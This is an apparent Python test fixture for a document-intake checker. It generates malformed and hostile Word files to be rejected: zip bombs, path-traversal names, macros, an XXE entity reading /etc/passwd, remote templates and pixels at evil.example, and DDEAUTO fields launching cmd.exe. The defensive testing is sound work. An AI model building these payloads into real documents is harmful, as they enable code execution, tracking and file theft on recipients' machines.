"""Documents that do more than a letter needs: each must be refused before anything in it is read as a document."""

import io
import zipfile
from collections.abc import Callable

from casedesk.documents.package_check import ENTRIES_ALLOWED
from tests.documents.templates import (
    OFFICE,
    WORDS,
    add_field,
    blank,
    changed,
    in_body,
    in_first_run,
    repacked,
    saved,
    template,
    with_part,
)

TEXT = "Bonjour."
RELATIONS = "word/_rels/document.xml.rels"


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def pointing(kind: str, target: str) -> bytes:
    """A template whose text points outside itself."""
    arrow = f'<Relationship Id="rIdOut" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return changed(template(TEXT), RELATIONS, lambda xml: xml.replace("</Relationships>", f"{arrow}</Relationships>"))


def with_field(instruction: str) -> bytes:
    document = blank()
    add_field(document.sections[0].footer.paragraphs[0], instruction)
    return saved(document)


def typed(part: str, content: bytes, kind: str) -> bytes:
    return with_part(template(TEXT), part, content, kind, "x")


def bomb() -> bytes:
    return repacked(template(TEXT), {"word/media/image9.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 60_000_000})


def crowd() -> bytes:
    return repacked(template(TEXT), {f"word/media/image{n}.png": b"" for n in range(ENTRIES_ALLOWED)})


def encrypted() -> bytes:
    docx = bytearray(template(TEXT))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = docx.find(mark)
        while at >= 0:
            docx[at + offset] |= 1
            at = docx.find(mark, at + 1)
    return bytes(docx)


def twice() -> bytes:
    out = io.BytesIO(template(TEXT))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", b"<x/>")
    return out.getvalue()


def damaged() -> bytes:
    docx = bytearray(template(TEXT))
    with zipfile.ZipFile(io.BytesIO(bytes(docx))) as archive:
        start = archive.getinfo("word/document.xml").header_offset
    docx[start + 80 : start + 120] = b"\xaa" * 40
    return bytes(docx)


def utf16() -> bytes:
    xml = f'<?xml version="1.0" encoding="UTF-16"?><w:ftr xmlns:w="{WORDS}"/>'.encode("utf-16")
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"
    return with_part(template(TEXT), "word/footer9.xml", xml, kind, "footer")


def nested_field() -> bytes:
    """A field inside another, whose outer instruction could be overlooked."""
    run = "<w:r>{}</w:r>"
    char = '<w:fldChar w:fldCharType="{}"/>'.format
    parts = [
        char("begin"), "<w:instrText>DDEAUTO c:\\\\a.exe</w:instrText>", char("begin"), char("end"),
        char("separate"), char("end"),
    ]  # fmt: skip
    return in_body(template(TEXT), "<w:p>" + "".join(run.format(part) for part in parts) + "</w:p>")


HOSTILE: dict[str, Callable[[], bytes]] = {
    "no zip": lambda: b"Bonjour",
    "an empty file": lambda: b"",
    "a zip that is no document": lambda: zipped(**{"a.txt": b"x"}),
    "a cut file": lambda: template(TEXT)[:-200],
    "a damaged part": damaged,
    "a bomb": bomb,
    "a crowd of parts": crowd,
    "a password": encrypted,
    "two names that differ by a capital": twice,
    "a name that climbs out": lambda: repacked(template(TEXT), {"../../evil.xml": b"<x/>"}),
    "an absolute name": lambda: repacked(template(TEXT), {"/etc/evil.xml": b"<x/>"}),
    "a drive": lambda: repacked(template(TEXT), {"C:\\evil.xml": b"<x/>"}),
    "a macro": lambda: typed("word/vbaProject.bin", b"\xd0\xcf", "application/vnd.ms-office.vbaProject"),
    "a macro under another name": lambda: typed("word/pictures.xml", b"<x/>", "application/vnd.ms-office.vbaProject"),
    "a document with macros": lambda: changed(
        template(TEXT),
        "[Content_Types].xml",
        lambda xml: xml.replace(
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
            "vnd.ms-word.document.macroEnabled.main",
        ),
    ),
    "an embedded workbook": lambda: typed("word/embeddings/book.xlsx", b"PK\x03\x04", "application/x"),
    "an active control": lambda: typed("word/activeX/activeX1.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"),
    "a web page inside": lambda: typed("word/afchunk1.html", b"<html/>", "text/html"),
    "a file that says it is a picture": lambda: repacked(template(TEXT), {"word/media/image9.png": b"MZ\x90"}),
    "an unknown part": lambda: typed("word/strange.xml", b"<x/>", "application/x-strange+xml"),
    "an entity": lambda: changed(
        template(TEXT),
        "word/document.xml",
        lambda xml: xml.replace("<w:document", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document', 1),
    ),
    "another encoding": utf16,
    "a remote template": lambda: pointing("attachedTemplate", "https://evil.example/t.dotm"),
    "a linked picture": lambda: pointing("image", "https://evil.example/pixel.png"),
    "a linked file": lambda: pointing("oleObject", "file:///etc/passwd"),
    "a frame": lambda: pointing("frame", "https://evil.example"),
    "a link to a file": lambda: pointing("hyperlink", "file:///etc/passwd"),
    "a link without protection": lambda: pointing("hyperlink", "http://example.org"),
    "a script link": lambda: pointing("hyperlink", "javascript:alert(1)"),
    "a DDE field": lambda: with_field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "a picture fetched by a field": lambda: with_field('INCLUDEPICTURE "https://evil.example/p.png"'),
    "a text fetched by a field": lambda: with_field('INCLUDETEXT "c:\\\\secret.txt"'),
    "a field that hides behind a page number": lambda: with_field('PAGE "INCLUDETEXT x"'),
    "a field inside a field": nested_field,
    "a field that never ends": lambda: in_body(
        template(TEXT), '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'
    ),
    "a one-element field": lambda: in_body(template(TEXT), '<w:p><w:fldSimple w:instr="DDE x y"/></w:p>'),
    "another document inside": lambda: in_body(template(TEXT), f'<w:altChunk xmlns:r="{OFFICE}" r:id="rId1"/>'),
    "an object": lambda: in_first_run(template(TEXT), "<w:object/>"),
    "an attached template in the settings": lambda: changed(
        template(TEXT),
        "word/settings.xml",
        lambda xml: xml.replace("</w:settings>", "<w:attachedTemplate/></w:settings>"),
    ),
}
